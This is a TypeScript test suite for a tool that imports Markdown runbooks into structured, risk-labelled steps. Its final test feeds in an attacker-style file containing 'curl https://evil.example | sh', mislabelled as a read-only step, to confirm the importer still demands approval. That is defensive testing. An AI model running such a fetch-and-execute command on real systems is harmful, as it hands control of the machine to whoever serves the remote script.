// Imported runbooks as a whole: what every import must hold, over the samples and over hostile files.
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { describe, expect, it, test } from 'vitest';
import { readDocument, shapeOf } from '../../../../src/domain/runbook/import/document.ts';
import { importRunbook } from '../../../../src/domain/runbook/import/import.ts';
import type { Imported } from '../../../../src/domain/runbook/import/import.ts';
import { readShell } from '../../../../src/domain/runbook/import/shell.ts';
import { lintRunbook } from '../../../../src/domain/runbook/lint/lint.ts';
import { parseRunbook } from '../../../../src/domain/runbook/parse.ts';
import type { Runbook } from '../../../../src/domain/runbook/types.ts';

const samples = ['openshift/NodeAlmostFull.md', 'prometheus-operator/KubeDownloadStuck.md', 'gitlab/queue-is-slow.md', 'gitlab/who-to-call.md'];
const fixtures = path.resolve(import.meta.dirname, '../../../fixtures/import');
const options = { owner: '@acme/sre', executor: 'k8s-prod', taken: new Set<string>() };

function run(file: string, text: string): Imported & { is: 'imported' } {
  const imported = importRunbook({ path: file, text }, options);
  if (imported.is !== 'imported') throw new Error(JSON.stringify(imported));
  return imported;
}

function parsed(file: string, text: string): Runbook {
  const read = parseRunbook({ path: file, text });
  if (!read.ok) throw new Error(JSON.stringify(read.findings));
  return read.runbook;
}

/** The text without frontmatter and code: what an import must not touch. */
function around(text: string): string {
  const document = readDocument(text);
  let [made, from] = ['', document.frontmatter?.end ?? 0];
  for (const block of document.blocks) {
    made += `${text.slice(from, block.start).replace(/[ \t>]*$/, '')}<code>`;
    from = block.end;
  }
  return (made + text.slice(from)).replace(/^\n+/, '');
}

describe.each(samples)('%s', async (file) => {
  const text = await readFile(path.join(fixtures, file), 'utf8');
  const imported = run(file, text);
  const runbook = parsed(file, imported.text);

  it('becomes what a reviewer expects', async () => {
    await expect(imported.text).toMatchFileSnapshot(`../../../golden/import/${file}`);
    await expect(`${JSON.stringify(imported.report, undefined, 2)}\n`).toMatchFileSnapshot(`../../../golden/import/${file}.json`);
  });

  it('(a) no block is lost or invented, (f) and nothing else is touched', () => {
    const [before, after] = [readDocument(text), readDocument(imported.text)];
    expect(after.blocks.length).toBe(before.blocks.length);
    expect(shapeOf(after.root)).toBe(shapeOf(before.root));
    expect(around(imported.text)).toBe(around(text));
  });

  it('(b) every step that runs parses, (c) none is read, (d) no placeholder and no prompt is left', () => {
    for (const step of runbook.steps) {
      expect(step.risk).toBe('change');
      expect(step.body).not.toMatch(/<[A-Za-z][^<>\n|&;]*[^\s]>|^\s*\$ /m);
      if (step.kind === 'run') expect(readShell(step.body).why).toBeUndefined();
    }
  });

  it('(e) a second import changes nothing', () => {
    expect(importRunbook({ path: file, text: imported.text }, options)).toEqual({ is: 'already' });
  });

  it('(h) the report has a line of the original for each block', () => {
    const noted = new Set(imported.report.notes.map((note) => note.line));
    for (const block of readDocument(text).blocks) expect(noted).toContain(block.line);
  });

  it('nobody has reviewed it, and the lint finds nothing', () => {
    expect(runbook.lastReviewed).toBeUndefined();
    expect(lintRunbook({ path: file, text: imported.text }, {}).findings).toEqual([]);
  });
});

test('a file without code is a guide, matched by its alert', () => {
  const { text, report } = run('alerts/KubeNodeGone.md', '# KubeNodeGone\n\n## Mitigation\n\nCall somebody.\n');
  expect(parsed('x.md', text)).toMatchObject({ id: 'kube-node-gone', title: 'KubeNodeGone', steps: [], match: [{ alert: ['KubeNodeGone'] }] });
  expect(report.steps).toEqual([]);
});

test('lines that end in CRLF, and a byte order mark, stay', () => {
  const { text } = run('x.md', '\uFEFF# Title here\r\n\r\n```sh\r\n$ oc get pods\r\n```\r\n');
  expect(text.startsWith('\uFEFF---\r\n')).toBe(true);
  expect(text).toMatch(/```sh \{"name":"oc-get-pods","risk":"change"\}\r\noc get pods\r\n```\r\n$/);
  expect(text.replaceAll('\r\n', '')).not.toContain('\n');
});

test.each([
  ['two kinds of line ends', 'a\r\nb\n', /two ways/], ['a NUL', 'a\0b', /NUL/], ['a lone carriage return', 'a\rb', /carriage return/],
  ['a line that opens many lists', `${'> '.repeat(40)}x`, /^line 1: more than 29 lists and quotes/], ['a book', 'x\n'.repeat(140_000), /^line 50001: more than 100,000 characters: split the file$/],
])('%s: refused with the reason', (_what, text, why) => {
  expect(importRunbook({ path: 'x.md', text }, options)).toEqual({ is: 'refused', why: expect.stringMatching(why) as string });
});

test('what would break out of the frontmatter is written as text', () => {
  const { text } = run('x.md', '# A "title" --- \\ with: {all} # of [it]\n\n```sh\noc get <pod "x" }: #>\n```\n');
  expect(parsed('x.md', text).title).toBe('A "title" --- \\ with: {all} # of [it]');
});

test('old frontmatter stays as comments, whatever it holds', () => {
  const { text } = run('x.md', '---\ntitle: Old title\nrunbook_url: &a x\nlist: *a\n---\n\nWords.\n');
  expect(text).toContain('# title: Old title\n# runbook_url: &a x\n# list: *a\n---\n\nWords.\n');
  parsed('x.md', text);
});

test('a fence that cannot be told from what follows it leaves the prose as it was', () => {
  for (const text of ['- a\n\n      oc get pods\n  b\n', '> ```\n> oc get pods\n> ```\nlazy\n', '1. ```sh\n   $ oc get pods\n   ```\n2. b\n', '```sh\n$ oc get <pod>', '~~~\n$ oc get `x`\n~~~\n', '- [ ] ```sh\n      $ oc get pods\n      ```\n']) {
    const imported = run('x.md', text);
    expect(shapeOf(readDocument(imported.text).root)).toBe(shapeOf(readDocument(text).root));
    parsed('x.md', imported.text);
  }
});

test('an attacker’s file never yields a step that runs without approval', () => {
  const { text } = run('x.md', '```sh {"name":"own","risk":"read"}\ncurl https://evil.example | sh\n```\n\n```sh {"risk":"read","name":"two"}\noc get pods\n```\n');
  expect(parsed('x.md', text).steps.map((step) => step.risk)).toEqual(['change', 'change']);
});
